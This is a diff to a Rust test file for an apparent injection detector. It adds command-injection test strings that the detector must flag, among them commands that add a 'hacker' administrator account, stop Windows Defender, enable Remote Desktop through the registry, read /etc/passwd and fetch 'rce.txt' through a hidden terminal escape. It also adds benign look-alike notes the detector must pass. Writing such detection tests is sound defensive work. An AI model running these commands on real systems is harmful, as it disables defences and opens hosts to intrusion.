@@ -663,5 +663,19 @@ fn trading_notes_with_separators_are_benign() {
     assert_attacks(&["x; sc stop WinDefend", "net localgroup Administrators hacker /ADD", "8.8.8.8 & set"], Class::Cmdi);
     // The same words with a shell argument, or a number followed by more, still count.
     assert_attacks(&["ID 7; ps aux", "ID 7; ps -ef", "x; id", "1; cat 3 /etc/passwd", "a | ps 1; whoami"], Class::Cmdi);
+    // A command whose argument ends in the next separator and command (a terminal escape
+    // hiding the line): the next one is still read.
+    assert_attacks(&["\\necho X\\nexit\\n\\033[2Awget https://example.com/rce.txt\\n", "ok\nexit\nsleep 5"], Class::Cmdi);
+    // Windows command lines as the whole value: a subcommand with a switch, a registry change.
+    assert_attacks(
+        &[
+            "net user hacker Password1 /ADD",
+            "net user admin /delete",
+            "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
+        ],
+        Class::Cmdi,
+    );
+    // ... but not the same words in a note.
+    assert_benign(&["net user count up 5%", "net view: long 1/2 size", "reg add-on approved"], Context::Auto);
     assert_attacks(&["1; select pg_sleep(5)", "1 AND sleep(5)"], Class::Sqli);
 }
